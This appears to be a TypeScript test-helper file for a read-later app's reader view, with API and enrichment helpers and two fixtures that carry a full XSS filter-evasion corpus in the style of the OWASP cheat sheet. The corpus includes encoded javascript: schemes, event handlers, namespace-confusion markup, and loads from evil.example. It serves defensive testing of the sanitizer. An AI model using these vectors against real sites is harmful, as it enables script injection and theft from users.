import { expect } from 'bun:test'
import { apiKeyDisplayPrefix, generateApiKey, hashApiKey } from '../../core/auth/api-keys.ts'
import { uuidv7 } from '../../core/ids.ts'
import { SCOPES } from '../../core/types.ts'
import { insertApiKey } from '../../adapters/storage/api-keys.ts'
import { storeArticle } from '../../adapters/storage/reading.ts'
import { startWorkers, waitForStatus } from '../enrichment/enrichment-helpers.ts'
import { random, type Harness } from '../helpers/harness.ts'

// Items with articles for the reader view's tests (docs/web.md#reader-view): through the real pipeline
// (a capture with the page, then the enrichment workers), or stored as is to get past the sanitizer.

/** A full API key for a person made through the pages, to check through the API what the pages did. */
export async function apiKeyFor(h: Harness, userId: string): Promise<string> {
  const key = generateApiKey(random)
  await insertApiKey(h.db, {
    id: uuidv7(Date.now(), random),
    userId,
    keyHash: hashApiKey(key),
    prefix: apiKeyDisplayPrefix(key),
    label: 'reader test',
    scopes: [...SCOPES],
    createdAt: h.clock.now().toISOString(),
  })
  return key
}

/** An API call on the harness, skipping nothing: the answers are checked against the OpenAPI document. */
const api = (h: Harness, key: string, method: string, path: string, body?: unknown) =>
  h.call(method, path, { token: key, ...(body === undefined ? {} : { body }) })

/** Saves a URL through the API, with the page as the browser saw it when `html` is given; returns the item id. */
export async function captureItem(h: Harness, key: string, url: string, html?: string): Promise<string> {
  const reply = await api(h, key, 'POST', '/v1/captures', html === undefined ? { url } : { url, html })
  expect([200, 201]).toContain(reply.status)
  return reply.body.savedItem.id
}

/**
 * Runs the enrichment workers until these items are enriched. Captures with a page never fetch, so a
 * fetch here is a bug. Stopped by enrichment-helpers' cleanUp, which the test file runs in afterEach.
 */
export async function enrich(h: Harness, key: string, ids: readonly string[]): Promise<void> {
  startWorkers({ h, log: (level, fields) => void h.logs.push({ level, ...fields }) }, async (url) => {
    throw new Error(`no fetch expected, asked for ${url}`)
  })
  for (const id of ids) await waitForStatus(h, key, id, 'enriched')
}

/** The item's content object through the API (`GET /v1/saved-items/{id}/content`). */
export async function contentOf(h: Harness, key: string, id: string): Promise<Record<string, any>> {
  const reply = await api(h, key, 'GET', `/v1/saved-items/${id}/content`)
  expect(reply.status).toBe(200)
  return reply.body
}

/** The item as the API lists it. */
export async function itemOf(h: Harness, key: string, id: string): Promise<Record<string, any>> {
  const reply = await api(h, key, 'GET', '/v1/saved-items?limit=500')
  expect(reply.status).toBe(200)
  const item = reply.body.savedItems.find((candidate: { id: string }) => candidate.id === id)
  expect(item).toBeDefined()
  return item
}

/** Stores `html` as the item's article exactly as given: no sanitizer, as if one had let it through. */
export async function storeRawArticle(
  h: Harness,
  itemId: string,
  html: string,
  fields: { title?: string; byline?: string | null; siteName?: string | null; wordCount?: number } = {},
): Promise<void> {
  const stored = await storeArticle(
    h.db,
    itemId,
    {
      title: fields.title ?? 'Stored as is',
      byline: fields.byline ?? null,
      siteName: fields.siteName ?? null,
      lang: 'en',
      html,
      text: 'Stored as is.',
      wordCount: fields.wordCount ?? 3,
    },
    h.clock.now().toISOString(),
    null,
  )
  expect(stored).toBe(true)
}

/** A page as a browser would send it with a capture: a blog post with a known site, author and length. */
export function articlePage(options: {
  title: string
  site: string
  author: string
  paragraphs: number
  lang?: string
  /** Markup placed after the first paragraph (code, a wide table, a large image…). */
  extra?: string
}): string {
  const paragraph = (n: number) =>
    `<p>Paragraph ${n}. ${'The reader view keeps a measure of about seventy characters so the eye finds the next line. '.repeat(4)}</p>`
  return `<!doctype html>
<html lang="${options.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<title>${options.title} | ${options.site}</title>
<meta property="og:site_name" content="${options.site}">
<meta property="og:title" content="${options.title}">
<meta name="author" content="${options.author}">
</head>
<body>
<nav><a href="/">Home</a> <a href="/about">About</a></nav>
<article>
<h1>${options.title}</h1>
${paragraph(1)}
${options.extra ?? ''}
${Array.from({ length: options.paragraphs - 1 }, (_, i) => paragraph(i + 2)).join('\n')}
</article>
<footer>Copyright</footer>
</body>
</html>`
}

/**
 * Markup that must do nothing in the reader view, stored past the sanitizer: script in every form that
 * reaches `window.__pwned`, and every way an article could reach another origin or leave the page.
 */
export const HOSTILE_ARTICLE = `<p>Before the attack.</p>
<script>window.__pwned = 1</script>
<img src="x" onerror="window.__pwned = 1">
<p><a id="js-link" href="javascript:window.__pwned = 1">x</a></p>
<iframe src="https://example.com"></iframe>
<img src="http://127.0.0.1:1/tracker.png">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="dns-prefetch" href="https://prefetch.evil.example">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<p><a id="relative-link" href="relative/page">relative</a></p>
<form action="https://evil.example"><button id="evil-submit">go</button></form>
<p style="color:red" onclick="window.__pwned = 1" id="click-me">Click me</p>
<svg><script>window.__pwned = 1</script></svg>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<p>After the attack.</p>`

/**
 * An OWASP XSS filter evasion cheat sheet style corpus, as a page captured with its HTML: the pipeline
 * (Readability, then the sanitizer) must leave none of it able to run or reach out.
 */
export const OWASP_PAGE = `<!doctype html>
<html lang="en"><head><title>Filter evasion corpus</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/bg.png)}</style>
<script>window.__pwned = 1</script>
</head>
<body onload="window.__pwned = 1">
<article>
<h1>Filter evasion corpus</h1>
<p>This article carries the classic vectors between paragraphs of ordinary text, so that Readability keeps
it as an article: the words around each vector are what a real page would have.</p>
<p><SCRIPT SRC=https://evil.example/xss.js></SCRIPT> Plain script tag with a source.</p>
<p><IMG SRC="javascript:window.__pwned=1"> Image with a javascript source.</p>
<p><IMG SRC=JaVaScRiPt:window.__pwned=1> Mixed case scheme.</p>
<p><IMG SRC=\`javascript:window.__pwned=1\`> Grave accents.</p>
<p><a onmouseover="window.__pwned=1">xxs link</a> An anchor with an event handler.</p>
<p><IMG """><SCRIPT>window.__pwned=1</SCRIPT>"\\> Malformed image tag.</p>
<p><IMG SRC=/ onerror="window.__pwned=1"></img> On error.</p>
<p><img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__pwned=1"> Decimal entities.</p>
<p><IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1> Decimal scheme.</p>
<p><IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__pwned=1> Hex scheme.</p>
<p><IMG SRC="jav	ascript:window.__pwned=1"> Embedded tab.</p>
<p><IMG SRC="jav&#x09;ascript:window.__pwned=1"> Encoded tab.</p>
<p><IMG SRC="jav&#x0A;ascript:window.__pwned=1"> Encoded newline.</p>
<p><IMG SRC=" &#14;  javascript:window.__pwned=1"> Leading spaces and meta characters.</p>
<p><SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT> Non-alpha-non-digit.</p>
<p><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=window.__pwned=1> Body onload.</p>
<p><<SCRIPT>window.__pwned=1;//\\<</SCRIPT> Extraneous brackets.</p>
<p><iframe src=https://evil.example/scriptlet.html <</iframe> Half open iframe.</p>
<p><INPUT TYPE="IMAGE" SRC="javascript:window.__pwned=1;"> Input image.</p>
<p><BGSOUND SRC="javascript:window.__pwned=1;"> Bgsound.</p>
<p><svg/onload=window.__pwned=1> SVG onload.</p>
<p><svg><a xlink:href="javascript:window.__pwned=1"><text x="20" y="20">svg link</text></a></svg> SVG link.</p>
<p><math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math> Namespace confusion.</p>
<p><noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript> Noscript confusion.</p>
<p><details open ontoggle="window.__pwned=1">details</details> Details ontoggle.</p>
<p><video><source onerror="window.__pwned=1"></video> Video source.</p>
<p><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">data link</a> A data URL link.</p>
<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">An SVG data image.</p>
<p><a href="  javascript:window.__pwned=1">spaced javascript link</a> Leading spaces.</p>
<p><a href="vbscript:msgbox(1)">vbscript link</a> VBScript.</p>
<p><TABLE BACKGROUND="javascript:window.__pwned=1"><TR><TD STYLE="background:url(https://evil.example/td.png)">cell</TD></TR></TABLE> Table background.</p>
<p><DIV STYLE="width: expression(window.__pwned=1);">expression</DIV> CSS expression.</p>
<p><META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__pwned=1;"> Meta refresh.</p>
<p><IFRAME SRC="javascript:window.__pwned=1;"></IFRAME> Iframe.</p>
<p><FRAMESET><FRAME SRC="javascript:window.__pwned=1;"></FRAMESET> Frameset.</p>
<p><OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT> Object.</p>
<p><EMBED SRC="https://evil.example/x.swf" AllowScriptAccess="always"></EMBED> Embed.</p>
<p><form action="https://evil.example/"><button formaction="javascript:window.__pwned=1">go</button></form> A form.</p>
<p><img src="http://127.0.0.1:1/tracker.png" alt="an http tracker"> An http image.</p>
<p><a href="https://example.org/safe" id="safe-link">A safe link</a> that should stay, with its text.</p>
<p>The last paragraph ends the article with more ordinary words for Readability to count and keep.</p>
<p>A script tag that is never closed takes everything after it, so it comes last: <SCRIPT SRC=https://evil.example/xss.js?< B >
</article>
</body></html>`
